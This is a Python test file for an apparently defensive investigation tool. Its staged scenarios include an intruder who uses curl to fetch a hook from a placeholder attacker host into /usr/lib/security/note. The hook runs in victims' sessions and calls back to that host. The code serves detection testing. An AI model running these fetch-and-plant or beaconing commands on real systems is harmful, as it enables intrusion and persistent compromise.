"""Whose doing it is: a hook in everybody's sessions is its planter's, and what a service does all day is nobody's."""

from collections.abc import Mapping

from tests.agent.staging import ATTACKER, Stage
from watchfloor.agent.case import Alert
from watchfloor.agent.casebook import Casebook
from watchfloor.agent.index import Index
from watchfloor.agent.investigating import Investigator

HOOK = "/usr/lib/security/note"
VICTIMS = 6


def hooked_host() -> tuple[Stage, dict[str, str]]:
    """An intruder logs on and plants a hook; then six people log on from addresses of their own, and work."""
    stage, ids = Stage(), {}
    for n in range(40):  # the host is older than the intrusion
        stage.run(n * 10.0, 100 + n, 1, f"/usr/sbin/logtool --day {n}", "root", f"old{n}")
    shell = stage.log_in(600, 200, "root", ATTACKER, "s0")
    ids["fetch"] = stage.run(605, 210, shell, f"curl -s http://{ATTACKER}/note -o {HOOK}", "root", "s0")
    ids["plant"] = stage.touch(605.5, 210, HOOK, user="root")
    for n in range(VICTIMS):
        at, pid, session = 700 + 100.0 * n, 1000 + 100 * n, f"v{n}"
        shell = stage.log_in(at, pid, f"ann{n}", f"10.0.0.{n + 5}", session)
        ids[f"hook{n}"] = stage.run(at + 1, pid + 10, pid, f"/bin/sh {HOOK}", "root", session)
        ids[f"call{n}"] = stage.run(at + 2, pid + 11, pid + 10, f"curl -s http://{ATTACKER}/seen", "root", session)
        ids[f"work{n}"] = stage.run(at + 20, pid + 12, shell, f"rm -f /tmp/parcel-{n}.tar", f"ann{n}", session)
    stage.rows.sort(key=lambda row: row["time"])
    return stage, ids


def odd_of(index: Index, words: str, score: float = 0.9) -> Mapping[str, float]:
    return {actor.played.uid: score for actor in index.actors if words in actor.said}


def test_a_hook_in_somebodys_session_leads_to_who_planted_it_and_not_to_the_work_beside_it() -> None:
    stage, ids = hooked_host()
    found = Investigator(stage.index()).investigate(Alert("c", (ids["hook2"], ids["call2"], ids["work2"])))
    assert {ids["fetch"], ids["plant"], ids["hook2"], ids["call2"]} <= set(found.operations)
    assert not {ids[f"work{n}"] for n in range(VICTIMS)} & set(found.operations)


def test_one_case_explains_the_hook_in_every_session_it_ran_in() -> None:
    stage, ids = hooked_host()
    book = Casebook(Investigator(stage.index()), most=9)
    for n in range(VICTIMS):
        assert book.work(Alert(f"log-in {n}", (ids[f"hook{n}"], ids[f"call{n}"], ids[f"work{n}"]))) is book.cases[0]
    assert len(book.cases) == 1 and len(book.cases[0].alerts) == VICTIMS


def requests(odd: int, plain: int) -> tuple[Stage, list[str]]:
    """Requests that one service starts a process for, a few seconds apart."""
    stage = Stage()
    names = [
        stage.run(1_000 + 5.0 * n, 100 + n, 9000 + n, f"/bin/sh -c '/srv/label --{'odd' if n < odd else 'day'}'")
        for n in range(odd + plain)
    ]
    return stage, names


def test_few_odd_requests_of_a_service_are_one_attackers() -> None:
    stage, names = requests(odd=3, plain=30)
    index = stage.index()
    found = Investigator(index, odd_of(index, "--odd")).investigate(Alert("c", (names[0],)))
    assert set(names[:3]) <= set(found.operations) and not set(names[3:]) & set(found.operations)


def test_where_most_of_what_a_service_does_looks_odd_one_request_brings_no_other() -> None:
    stage, names = requests(odd=30, plain=3)
    index = stage.index()
    found = Investigator(index, odd_of(index, "--odd")).investigate(Alert("c", (names[0],)))
    assert set(found.operations) == {names[0]}


def test_checks_of_accounts_at_the_log_in_are_nobodys_company() -> None:
    stage = Stage()
    names = [stage.run(900 + n, 50 + n, 9000 + n, "/usr/sbin/unix_chkpwd ann chkexpiry", "ann") for n in range(3)]
    index = stage.index()
    found = Investigator(index, odd_of(index, "chkpwd")).investigate(Alert("c", (names[0],)))
    assert set(found.operations) == {names[0]}


def test_an_address_that_many_use_speaks_for_the_account_of_the_alert_alone() -> None:
    stage = Stage()
    for n in range(40):
        stage.run(n * 10.0, 100 + n, 1, f"/usr/sbin/logtool --day {n}", "root", f"old{n}")
    said: dict[str, list[str]] = {"eve": [], "bob": []}
    for n in range(30):
        user = "eve" if n % 2 else "bob"
        shell = stage.log_in(600 + 60.0 * n, 1000 + 10 * n, user, "203.0.113.77", f"s{n}")
        said[user].append(stage.run(605 + 60.0 * n, 1005 + 10 * n, shell, f"stat /srv/{user}-{n}", user, f"s{n}"))
    found = set(Investigator(stage.index()).investigate(Alert("c", (said["eve"][2],))).operations)
    assert set(said["eve"]) <= found and not set(said["bob"]) & found
